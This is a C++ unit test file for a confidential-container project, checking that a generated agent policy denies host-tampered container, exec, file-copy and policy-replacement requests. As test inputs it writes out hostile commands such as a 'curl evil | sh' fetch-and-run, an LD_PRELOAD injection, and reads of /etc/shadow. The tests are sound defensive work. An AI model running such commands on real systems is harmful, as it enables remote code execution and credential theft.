// A generated policy denies what the host could change in a request: we
// start from a recorded, allowed CreateContainerRequest for a pod with a
// pinned image, change one thing at a time, and check that the policy
// denies it, that the check that fails is the one guarding that thing, and
// that `contrast policy explain` (run on the pod YAML with the policy
// attached as initdata) names that rule.
//
// The image comes from a real local registry (registry_images.h); its
// built digest replaces the pinned one in the pod and the recorded request.
#include <unistd.h>

#include <algorithm>
#include <filesystem>
#include <fstream>
#include <optional>
#include <sstream>
#include <string>
#include <vector>

#include <gmock/gmock.h>
#include <gtest/gtest.h>
#include <nlohmann/json.hpp>

#include "policy/gen/generator.h"
#include "policy/rego/agent.h"
#include "policy_gen/diagnose.h"
#include "policy_gen/pod_yaml.h"
#include "policy_gen/registry_images.h"
#include "support/cli_run.h"
#include "support/testdata.h"

namespace contrast::policy::gen {
namespace {

using rego::AgentPolicy;
using rego::Value;
using ::testing::Contains;

// The genpolicy "gid" pod, plus a liveness probe (for exec).
constexpr const char* kPod = R"(apiVersion: v1
kind: Pod
metadata:
  name: gid-experiment
spec:
  containers:
    - name: gid
      image: "ghcr.io/burgerdev/weird-images/gid:latest@sha256:bdbb485bb9e3baf381a2957b9369b6051c6113097a5f8dcee27faff17624a2c0"
      securityContext:
        runAsUser: 2
        runAsGroup: 1
      livenessProbe:
        exec:
          command: ["cat", "/tmp/healthy"]
)";

constexpr const char* kImage =
    "ghcr.io/burgerdev/weird-images/gid:latest@sha256:bdbb485bb9e3baf381a2957b9369b6051c6113097a5f8dcee27faff17624a2c0";
constexpr const char* kOtherDigest = "sha256:0000000000000000000000000000000000000000000000000000000000000001";

std::string ReplaceAll(std::string text, const std::string& from, const std::string& to) {
  for (size_t pos = 0; (pos = text.find(from, pos)) != std::string::npos; pos += to.size())
    text.replace(pos, from.size(), to);
  return text;
}

// Requests are edited as nlohmann::json, then handed to the engine.
Value FromJson(const nlohmann::json& j) { return *Value::FromJson(j.dump()); }

class TamperTest : public ::testing::Test {
 protected:
  static void SetUpTestSuite() { registry_ = testing::GenpolicyRegistry::Start(); }
  static void TearDownTestSuite() { registry_.reset(); }

  void SetUp() override {
    CONTRAST_REQUIRE_TESTDATA();
    CONTRAST_REQUIRE_GENPOLICY_REGISTRY(registry_);
    digest_ = registry_->BuiltDigest(kImage);
    ASSERT_FALSE(digest_.empty());
    std::ifstream in(testing::TestdataDir() / "kata/genpolicy-policy-tests/createcontainer/gid/testcases.json");
    std::stringstream buffer;
    buffer << in.rdbuf();
    std::string cases_json = buffer.str();
    pod_yaml_ = kPod;
    ASSERT_EQ(registry_->SubstitutePinnedDigests(pod_yaml_, {&cases_json}).size(), 1u);

    pod_ = testing::PodFromYaml(pod_yaml_, "tamper/pod.yaml");
    ASSERT_TRUE(images_.Resolve(registry_->ResolverOptions(), testing::PodImages(pod_)));
    auto text = GeneratePodPolicy(pod_, images_.AsFunction(), configs_);
    ASSERT_TRUE(text) << text.error().message;
    text_ = text->text;
    auto cases = nlohmann::json::parse(cases_json);
    ASSERT_TRUE(cases[0]["allowed"].get<bool>());
    create_ = cases[0]["request"];
    ASSERT_NE(create_.dump().find(digest_), std::string::npos);

    // The pod as `generate` writes it: the policy attached as initdata.
    dir_ = std::filesystem::temp_directory_path() / ("contrast-tamper-test-" + std::to_string(::getpid()) + "-" +
                                                     ::testing::UnitTest::GetInstance()->current_test_info()->name());
    std::filesystem::remove_all(dir_);
    std::filesystem::create_directories(dir_);
    const Attachment attached = AttachAsInitdata(text_);
    std::string annotated = pod_yaml_;
    const std::string metadata = "metadata:\n";
    annotated.insert(annotated.find(metadata) + metadata.size(),
                     "  annotations:\n    " + attached.annotation_key + ": \"" + attached.annotation_value + "\"\n");
    pod_file_ = Write("pod.yaml", annotated);
  }

  void TearDown() override {
    if (!dir_.empty()) std::filesystem::remove_all(dir_);
  }

  std::string Write(const std::string& name, const std::string& text) {
    const auto path = dir_ / name;
    std::ofstream(path, std::ios::binary) << text;
    return path.string();
  }

  // `contrast policy explain --from-yaml POD --pod gid-experiment --request
  // KIND REQUEST [--state STATE]`.
  testing::CliRun Explain(const std::string& kind, const nlohmann::json& request,
                          const std::optional<std::string>& state_file = std::nullopt) {
    std::vector<std::string> args = {
        "policy",    "explain", "--from-yaml",
        pod_file_,   "--pod",   "gid-experiment",
        "--request", kind,      Write("request-" + std::to_string(++requests_) + ".json", request.dump())};
    if (state_file) {
      args.push_back("--state");
      args.push_back(*state_file);
    }
    return testing::Contrast(args);
  }

  // Explain denies the request (exit 1) and names each of `rules` as a rule
  // that failed; the output is shown when it does not.
  void ExpectExplainDenies(const std::string& kind, const nlohmann::json& request,
                           const std::vector<std::string>& rules,
                           const std::optional<std::string>& state_file = std::nullopt) {
    const testing::CliRun run = Explain(kind, request, state_file);
    EXPECT_EQ(run.code, 1) << run.out << run.err;
    EXPECT_EQ(run.out.rfind("deny\n", 0), 0u) << run.out;
    for (const std::string& rule : rules) {
      EXPECT_TRUE(NamesFailedRule(run.out, rule)) << "explain does not name " << rule << ":\n" << run.out;
    }
    // And no other guard: the output points at what was changed.
    for (const char* guard : kGuardRules) {
      if (std::find(rules.begin(), rules.end(), guard) != rules.end()) continue;
      EXPECT_FALSE(NamesFailedRule(run.out, guard)) << "explain names " << guard << " as well:\n" << run.out;
    }
  }

  // The rules that each guard one part of a request.
  static constexpr const char* kGuardRules[] = {
      "sandbox_identity_allowed",
      "network_namespace_allowed",
      "annotations_allowed",
      "process_allowed",
      "arg_allowed",
      "env_allowed",
      "user_allowed",
      "capabilities_allowed",
      "mounts_allowed",
      "mount_allowed",
      "storages_allowed",
      "image_allowed",
      "image_reference_allowed",
      "linux_allowed",
      "devices_allowed",
      "exec_command_allowed",
  };

  // Whether explain's output reports `rule` as failed: a line
  // "data.agent_policy.RULE (file:line:col): no definition succeeded...".
  static bool NamesFailedRule(const std::string& out, const std::string& rule) {
    const std::string head = "data.agent_policy." + rule + " (";
    std::istringstream lines(out);
    for (std::string line; std::getline(lines, line);) {
      if (line.rfind(head, 0) == 0 && line.find("): no definition succeeded") != std::string::npos) return true;
    }
    return false;
  }

  // A fresh policy (empty state) deciding one request.
  rego::Decision Decide(const std::string& kind, const nlohmann::json& request, AgentPolicy* policy = nullptr) {
    std::optional<AgentPolicy> fresh;
    if (!policy) {
      auto loaded = AgentPolicy::Load(text_);
      EXPECT_TRUE(loaded) << loaded.error().message;
      fresh.emplace(std::move(*loaded));
      policy = &*fresh;
    }
    auto input = rego::FillRequestDefaults(kind, FromJson(request));
    EXPECT_TRUE(input) << input.error().message;
    last_failed_.clear();
    if (kind == "CreateContainerRequest") last_failed_ = testing::FailedCreateContainerChecks(*policy, *input);
    auto decision = policy->Evaluate(kind, *input);
    EXPECT_TRUE(decision);
    return *decision;
  }

  nlohmann::json Exec(std::vector<std::string> args) {
    return {{"container_id", create_["container_id"]},
            {"exec_id", "00000000-0000-0000-0000-000000000001"},
            {"process",
             {{"Args", args},
              {"Cwd", "/"},
              {"Env", {"PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin"}},
              {"NoNewPrivileges", false},
              {"Terminal", false},
              {"User", {{"UID", 2}, {"GID", 1}, {"AdditionalGids", {1}}, {"Username", ""}}}}}};
  }

  static std::unique_ptr<testing::GenpolicyRegistry> registry_;
  std::string digest_;  // the built gid image's, pinned by the pod
  std::string pod_yaml_;
  kube::PodTemplate pod_;
  kube::ConfigStore configs_;
  testing::ResolvedImages images_;
  std::string text_;
  nlohmann::json create_;
  std::vector<std::string> last_failed_;
  std::filesystem::path dir_;
  std::string pod_file_;
  int requests_ = 0;
};
std::unique_ptr<testing::GenpolicyRegistry> TamperTest::registry_;

TEST_F(TamperTest, UntamperedRequestIsAllowed) {
  EXPECT_TRUE(Decide("CreateContainerRequest", create_).allowed);
  EXPECT_TRUE(last_failed_.empty()) << ::testing::PrintToString(last_failed_);
  const testing::CliRun run = Explain("CreateContainerRequest", create_);
  EXPECT_EQ(run.code, 0) << run.out << run.err;
  EXPECT_EQ(run.out.rfind("allow\n", 0), 0u) << run.out;
}

TEST_F(TamperTest, OtherArgsAreDenied) {
  create_["OCI"]["Process"]["Args"] = {"/bin/sh", "-c", "curl evil | sh"};
  EXPECT_FALSE(Decide("CreateContainerRequest", create_).allowed);
  EXPECT_THAT(last_failed_, Contains("process_allowed"));
  ExpectExplainDenies("CreateContainerRequest", create_, {"process_allowed"});
}

TEST_F(TamperTest, ExtraEnvironmentVariableIsDenied) {
  create_["OCI"]["Process"]["Env"].push_back("LD_PRELOAD=/tmp/evil.so");
  EXPECT_FALSE(Decide("CreateContainerRequest", create_).allowed);
  EXPECT_THAT(last_failed_, Contains("process_allowed"));
  ExpectExplainDenies("CreateContainerRequest", create_, {"process_allowed", "env_allowed"});
}

TEST_F(TamperTest, OtherImageDigestIsDenied) {
  nlohmann::json tampered = nlohmann::json::parse(ReplaceAll(create_.dump(), digest_, kOtherDigest));
  ASSERT_NE(tampered["storages"][0]["source"], create_["storages"][0]["source"]);
  EXPECT_FALSE(Decide("CreateContainerRequest", tampered).allowed);
  EXPECT_THAT(last_failed_, Contains("image_allowed"));
  ExpectExplainDenies("CreateContainerRequest", tampered, {"image_allowed", "image_reference_allowed"});

  // Only the annotation, or only the storage, changed: denied as well.
  nlohmann::json annotation_only = create_;
  annotation_only["OCI"]["Annotations"]["io.kubernetes.cri.image-name"] =
      tampered["OCI"]["Annotations"]["io.kubernetes.cri.image-name"];
  EXPECT_FALSE(Decide("CreateContainerRequest", annotation_only).allowed);
  nlohmann::json storage_only = create_;
  storage_only["storages"][0]["source"] = tampered["storages"][0]["source"];
  EXPECT_FALSE(Decide("CreateContainerRequest", storage_only).allowed);
}

TEST_F(TamperTest, TagInsteadOfPinnedDigestIsDenied) {
  nlohmann::json tagged = nlohmann::json::parse(ReplaceAll(create_.dump(), "gid@" + digest_, "gid:latest"));
  EXPECT_FALSE(Decide("CreateContainerRequest", tagged).allowed);
  EXPECT_THAT(last_failed_, Contains("image_allowed"));
  ExpectExplainDenies("CreateContainerRequest", tagged, {"image_allowed", "image_reference_allowed"});
}

// Without guest pull the host supplies the container's root file system,
// and no digest would be checked: the default settings demand the
// image_guest_pull storage.
TEST_F(TamperTest, ContainerWithoutGuestPullIsDenied) {
  ASSERT_EQ(create_["storages"][0]["driver"], "image_guest_pull");
  nlohmann::json host_pulled = create_;
  host_pulled["storages"].erase(0);
  EXPECT_FALSE(Decide("CreateContainerRequest", host_pulled).allowed);
  EXPECT_THAT(last_failed_, Contains("storages_allowed"));
  ExpectExplainDenies("CreateContainerRequest", host_pulled, {"storages_allowed"});
}

TEST_F(TamperTest, ExtraMountIsDenied) {
  create_["OCI"]["Mounts"].push_back({{"destination", "/host"},
                                      {"source", "/run/kata-containers/shared/containers/gid-0123456789abcdef-host"},
                                      {"type_", "bind"},
                                      {"options", {"rbind", "rprivate", "rw"}}});
  EXPECT_FALSE(Decide("CreateContainerRequest", create_).allowed);
  EXPECT_THAT(last_failed_, Contains("mounts_allowed"));
  ExpectExplainDenies("CreateContainerRequest", create_, {"mounts_allowed", "mount_allowed"});
}

TEST_F(TamperTest, PrivilegedCapabilitiesAreDenied) {
  // What a privileged container gets: among others, SYS_ADMIN and SYS_MODULE.
  const auto privileged =
      nlohmann::json::parse(R"(["CAP_CHOWN","CAP_DAC_OVERRIDE","CAP_SYS_ADMIN","CAP_NET_ADMIN","CAP_SYS_MODULE"])");
  for (const char* set : {"Bounding", "Effective", "Permitted"})
    create_["OCI"]["Process"]["Capabilities"][set] = privileged;
  EXPECT_FALSE(Decide("CreateContainerRequest", create_).allowed);
  EXPECT_THAT(last_failed_, Contains("process_allowed"));
  ExpectExplainDenies("CreateContainerRequest", create_, {"process_allowed", "capabilities_allowed"});
}

// A privileged container also loses the masked and read-only /proc and
// /sys paths.
TEST_F(TamperTest, PrivilegedPathsAreDenied) {
  create_["OCI"]["Linux"]["MaskedPaths"] = nlohmann::json::array();
  create_["OCI"]["Linux"]["ReadonlyPaths"] = nlohmann::json::array();
  EXPECT_FALSE(Decide("CreateContainerRequest", create_).allowed);
  EXPECT_THAT(last_failed_, Contains("linux_allowed"));
  ExpectExplainDenies("CreateContainerRequest", create_, {"linux_allowed"});
}

// genpolicy's placeholder for the default capability set stands for that
// set and no other: accepted where the policy expects the default set,
// never as a way to more capabilities.
TEST_F(TamperTest, DefaultCapabilitiesPlaceholderIsOnlyTheDefaultSet) {
  for (const char* set : {"Bounding", "Effective", "Permitted"})
    create_["OCI"]["Process"]["Capabilities"][set] = {"$(default_caps)"};
  EXPECT_TRUE(Decide("CreateContainerRequest", create_).allowed) << ::testing::PrintToString(last_failed_);

  nlohmann::json more = create_;
  more["OCI"]["Process"]["Capabilities"]["Bounding"].push_back("CAP_SYS_ADMIN");
  EXPECT_FALSE(Decide("CreateContainerRequest", more).allowed);
  ExpectExplainDenies("CreateContainerRequest", more, {"process_allowed", "capabilities_allowed"});

  // The placeholder in a set the policy expects empty.
  nlohmann::json ambient = create_;
  ambient["OCI"]["Process"]["Capabilities"]["Ambient"] = {"$(default_caps)"};
  EXPECT_FALSE(Decide("CreateContainerRequest", ambient).allowed);

  // The privileged set's placeholder stands for the privileged set, which
  // this (unprivileged) container does not get.
  nlohmann::json privileged = create_;
  for (const char* set : {"Bounding", "Effective", "Permitted"})
    privileged["OCI"]["Process"]["Capabilities"][set] = {"$(privileged_caps)"};
  EXPECT_FALSE(Decide("CreateContainerRequest", privileged).allowed);
  EXPECT_THAT(last_failed_, Contains("process_allowed"));
}

// A container that drops every capability: the placeholder does not stand
// in for its (empty) set.
TEST_F(TamperTest, DefaultCapabilitiesPlaceholderIsNotAnEmptySet) {
  std::string yaml = pod_yaml_;
  const std::string security = "      securityContext:\n";
  yaml.insert(yaml.find(security) + security.size(), "        capabilities:\n          drop: [\"ALL\"]\n");
  auto policy = GeneratePodPolicy(testing::PodFromYaml(yaml, "tamper/drop-all.yaml"), images_.AsFunction(), configs_);
  ASSERT_TRUE(policy) << policy.error().message;
  auto loaded = AgentPolicy::Load(policy->text);
  ASSERT_TRUE(loaded) << loaded.error().message;
  for (const char* set : {"Bounding", "Effective", "Permitted"})
    create_["OCI"]["Process"]["Capabilities"][set] = nlohmann::json::array();
  EXPECT_TRUE(Decide("CreateContainerRequest", create_, &*loaded).allowed) << ::testing::PrintToString(last_failed_);

  auto fresh = AgentPolicy::Load(policy->text);
  ASSERT_TRUE(fresh);
  for (const char* set : {"Bounding", "Effective", "Permitted"})
    create_["OCI"]["Process"]["Capabilities"][set] = {"$(default_caps)"};
  EXPECT_FALSE(Decide("CreateContainerRequest", create_, &*fresh).allowed);
  EXPECT_THAT(last_failed_, Contains("process_allowed"));
}

TEST_F(TamperTest, OtherSandboxIsDenied) {
  create_["OCI"]["Annotations"]["io.kubernetes.cri.sandbox-name"] = "someone-else";
  EXPECT_FALSE(Decide("CreateContainerRequest", create_).allowed);
  EXPECT_THAT(last_failed_, Contains("sandbox_identity_allowed"));
  ExpectExplainDenies("CreateContainerRequest", create_, {"sandbox_identity_allowed"});
}

TEST_F(TamperTest, ExecOfProbeCommandOnlyAfterCreate) {
  auto loaded = AgentPolicy::Load(text_);
  ASSERT_TRUE(loaded);
  // Not created yet: nothing can be executed.
  EXPECT_FALSE(Decide("ExecProcessRequest", Exec({"cat", "/tmp/healthy"}), &*loaded).allowed);
  ASSERT_TRUE(Decide("CreateContainerRequest", create_, &*loaded).allowed);
  EXPECT_TRUE(Decide("ExecProcessRequest", Exec({"cat", "/tmp/healthy"}), &*loaded).allowed);
  EXPECT_FALSE(Decide("ExecProcessRequest", Exec({"/bin/sh"}), &*loaded).allowed);
  EXPECT_FALSE(Decide("ExecProcessRequest", Exec({"cat", "/etc/shadow"}), &*loaded).allowed);
  auto as_root = Exec({"cat", "/tmp/healthy"});
  as_root["process"]["User"]["UID"] = 0;
  EXPECT_FALSE(Decide("ExecProcessRequest", as_root, &*loaded).allowed);
  // Removed: nothing can be executed any more.
  ASSERT_TRUE(Decide("RemoveContainerRequest", {{"container_id", create_["container_id"]}}, &*loaded).allowed);
  EXPECT_FALSE(Decide("ExecProcessRequest", Exec({"cat", "/tmp/healthy"}), &*loaded).allowed);
}

// The same through the CLI: `policy check --state-out` records the created
// container, as the agent would; explain then names the command rule.
TEST_F(TamperTest, ExplainNamesTheRuleThatDeniesAnExec) {
  const std::string state = (dir_ / "state.json").string();
  const testing::CliRun created =
      testing::Contrast({"policy", "check", "--from-yaml", pod_file_, "--pod", "gid-experiment", "--request",
                         "CreateContainerRequest", Write("create.json", create_.dump()), "--state-out", state});
  ASSERT_EQ(created.code, 0) << created.out << created.err;

  const testing::CliRun probe = Explain("ExecProcessRequest", Exec({"cat", "/tmp/healthy"}), state);
  EXPECT_EQ(probe.code, 0) << probe.out << probe.err;
  ExpectExplainDenies("ExecProcessRequest", Exec({"/bin/sh"}), {"exec_command_allowed"}, state);
}

TEST_F(TamperTest, CopyFileOnlyIntoSharedDirectories) {
  const std::string shared =
      "/run/kata-containers/shared/containers/"
      "81e5f43bc8599c5661e66f959ac28df5bfb30da23c5d583f2dcc6f9e0c5186dc-ce23cfeb91e75aaa-resolv.conf";
  EXPECT_TRUE(Decide("CopyFileRequest", {{"path", shared}, {"file_type", "Regular"}}).allowed);
  EXPECT_FALSE(Decide("CopyFileRequest", {{"path", "/etc/passwd"}, {"file_type", "Regular"}}).allowed);
  EXPECT_FALSE(Decide("CopyFileRequest", {{"path", "/run/kata-containers/gid/rootfs/bin/sh"}, {"file_type", "Regular"}})
                   .allowed);
  // The request's own rule holds the path check.
  ExpectExplainDenies("CopyFileRequest", {{"path", "/etc/passwd"}, {"file_type", "Regular"}}, {"CopyFileRequest"});
}

TEST_F(TamperTest, PolicyCannotBeReplaced) {
  EXPECT_FALSE(
      Decide("SetPolicyRequest", {{"policy", "package agent_policy\ndefault CreateContainerRequest := true"}}).allowed);
  EXPECT_FALSE(Decide("ReadStreamRequest", {{"container_id", "gid"}, {"exec_id", "gid"}, {"len", 100}}).allowed);
  EXPECT_FALSE(Decide("WriteStreamRequest", {{"container_id", "gid"}, {"exec_id", "gid"}}).allowed);
}

}  // namespace
}  // namespace contrast::policy::gen
